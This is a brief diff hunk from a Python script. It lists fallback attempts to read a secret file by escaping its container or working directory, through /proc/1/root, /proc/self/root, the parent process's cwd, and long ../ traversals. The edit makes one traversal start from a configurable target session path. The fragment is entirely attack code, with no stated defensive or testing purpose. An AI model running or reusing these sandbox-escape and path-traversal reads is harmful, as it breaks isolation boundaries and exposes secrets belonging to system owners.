@@ -8,7 +8,7 @@ try_all(
     lambda: read(secret),
     lambda: read("/proc/1/root" + secret),
     lambda: read("/proc/self/root" + secret),
-    lambda: read("/work/session/../../../../../.." + secret),
+    lambda: read(target["session"] + "/../../../../../.." + secret),
     lambda: read("/data/../.." + secret),
     lambda: read(f"/proc/{os.getppid()}/cwd/../.." + secret),
 )
